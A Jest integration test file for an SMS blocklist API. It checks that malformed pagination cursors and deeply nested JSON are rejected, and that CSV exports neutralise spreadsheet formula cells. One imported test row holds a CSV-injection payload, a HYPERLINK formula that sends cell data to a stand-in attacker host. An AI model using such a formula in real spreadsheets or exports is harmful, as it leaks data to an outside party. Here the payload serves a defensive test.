import { RunningSystem } from '../support/running-system';

jest.setTimeout(60_000);

/**
 * Issue 13, item 9: smaller holes a hostile caller found. Tampered pagination cursors and a
 * batch nested 100,000 arrays deep answered 500; an export wrote spreadsheet formulas from
 * imported keyword cells as they were.
 */
describe('hostile input: cursors, nesting, CSV formulas', () => {
  let system: RunningSystem;
  let account: { id: string; apiKey: string };
  let webhookId: string;

  beforeAll(async () => {
    system = await RunningSystem.start();
    account = await system.createAccount('Mallory');
    const webhook = await system.request('POST', `/v1/accounts/${account.id}/webhooks`, { token: account.apiKey, json: { url: 'https://crm.example.com/hook' } });
    expect(webhook.status).toBe(201);
    webhookId = webhook.body.id;
    expect((await system.request('PUT', `/v1/accounts/${account.id}/reply-transport`, { token: account.apiKey, json: { type: 'http', url: 'https://sms.example.com/send' } })).status).toBe(200);
  });

  afterAll(() => system?.stop());

  const api = (method: string, path: string, options: { json?: unknown; body?: string; contentType?: string } = {}) =>
    system.request(method, `/v1/accounts/${account.id}${path}`, { token: account.apiKey, ...options });
  const base64url = (text: string) => Buffer.from(text).toString('base64url');
  const uuid = '7d3c3a52-5a2f-4a2e-9a59-2b1f0e6b7c11';

  it.each([
    ['a timestamp past bigint', base64url(`99999999999999999999.${uuid}`)],
    ['a timestamp past the calendar', base64url(`9223372036854775807.${uuid}`)],
    ['an id of dashes', base64url(`1.${'-'.repeat(36)}`)],
    ['the raw text', `99999999999999999999.${uuid}`],
  ])('answers 400 naming the cursor for %s, on webhook and reply deliveries', async (_what, cursor) => {
    for (const path of [`/webhooks/${webhookId}/deliveries`, '/reply-transport/deliveries']) {
      const answer = await api('GET', `${path}?cursor=${encodeURIComponent(cursor)}`);
      expect(answer.status).toBe(400);
      expect(answer.body.error.details).toEqual([expect.objectContaining({ field: 'cursor' })]);
    }
  });

  it('answers 400 to a batch nested 100,000 arrays deep, and keeps serving', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    for (const path of ['/v1/inbound/batch', '/v1/inbound', `/v1/gate/${account.id}/check`]) {
      const answer = await system.request('POST', path, { token: account.apiKey, body: `{"messages":${deep}}`, contentType: 'application/json' });
      expect(answer.status).toBe(400);
      expect(answer.body.error.message).toContain('nested deeper than 64 levels');
    }
    const fine = await system.request('POST', '/v1/inbound/batch', {
      token: account.apiKey,
      json: { messages: [{ accountId: account.id, messageId: 'deep-ok', from: '+12025550141', to: '+12025550100', body: 'hello' }] },
    });
    expect(fine.status).toBe(202);
  });

  it('neutralises formula cells in exports, keeps E.164 numbers, and imports its own export back unchanged', async () => {
    const imported = await api('POST', '/blocklist/import', {
      contentType: 'text/csv',
      body: ['phone,optedOutAt,keyword', '+12025550151,2024-05-01,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"', '+12025550152,2024-05-01,@SUM(1+1)', '+12025550153,2024-05-01,-2+3', '+12025550154,2024-05-01,STOP', ''].join('\n'),
    });
    expect(imported.body).toMatchObject({ rows: 4, recorded: 4, rejected: 0 });

    const exported = await fetch(`${system.baseUrl}/v1/accounts/${account.id}/blocklist/export`, { headers: { authorization: `Bearer ${account.apiKey}` } });
    const text = await exported.text();
    const lines = text.trimEnd().split('\n');
    expect(lines).toContain(`+12025550151,2024-05-01T00:00:00.000Z,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",import`);
    expect(lines).toContain(`+12025550152,2024-05-01T00:00:00.000Z,'@SUM(1+1),import`);
    expect(lines).toContain(`+12025550153,2024-05-01T00:00:00.000Z,'-2+3,import`);
    expect(lines).toContain('+12025550154,2024-05-01T00:00:00.000Z,STOP,import');
    // No cell a spreadsheet would evaluate: each field starts with none of = + - @ tab CR, E.164 numbers aside.
    for (const line of lines.slice(1)) {
      const [phone, , keyword] = line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
      expect(phone).toMatch(/^\+\d+$/);
      expect(keyword.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }

    const copy = await system.createAccount('Copy');
    const reimported = await system.request('POST', `/v1/accounts/${copy.id}/blocklist/import`, { token: copy.apiKey, body: text, contentType: 'text/csv' });
    expect(reimported.body).toMatchObject({ rows: 4, recorded: 4, rejected: 0 });
    const [row] = await system.sql<{ keyword: string }>('SELECT keyword FROM consent_states WHERE account_id = $1 AND phone = $2', [copy.id, '+12025550152']);
    expect(row.keyword).toBe('@SUM(1+1)');
    const again = await fetch(`${system.baseUrl}/v1/accounts/${copy.id}/blocklist/export`, { headers: { authorization: `Bearer ${copy.apiKey}` } });
    expect(await again.text()).toBe(text);
  });
});
